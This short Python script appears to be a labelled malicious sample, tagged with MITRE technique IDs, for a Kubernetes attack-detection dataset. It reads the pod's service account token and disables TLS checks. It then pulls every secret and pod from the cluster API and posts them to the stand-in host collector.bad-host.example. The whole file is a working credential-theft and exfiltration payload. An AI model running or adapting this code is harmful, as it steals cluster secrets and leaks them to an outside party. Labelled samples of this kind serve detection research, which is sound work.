# label: malicious family=k8s techniques=T1552.007,T1613,T1041 lines=7,12,16,24-25
import json
import os
import ssl
import urllib.request

SA = "/var/run/secrets/kubernetes.io/serviceaccount"


class Cluster:
    def __init__(self):
        self.token = open(os.path.join(SA, "token")).read().strip()
        self.ns = open(os.path.join(SA, "namespace")).read().strip()
        self.api = "https://%s:%s" % (os.environ.get("KUBERNETES_SERVICE_HOST", "kubernetes.default.svc"),
                                      os.environ.get("KUBERNETES_SERVICE_PORT", "443"))
        self.ctx = ssl._create_unverified_context()

    def get(self, path):
        req = urllib.request.Request(self.api + path, headers={"Authorization": "Bearer " + self.token})
        return json.load(urllib.request.urlopen(req, context=self.ctx))


c = Cluster()
loot = {"secrets": c.get("/api/v1/secrets"), "pods": c.get("/api/v1/pods")}
urllib.request.urlopen("http://collector.bad-host.example/k8s", data=json.dumps(loot).encode())
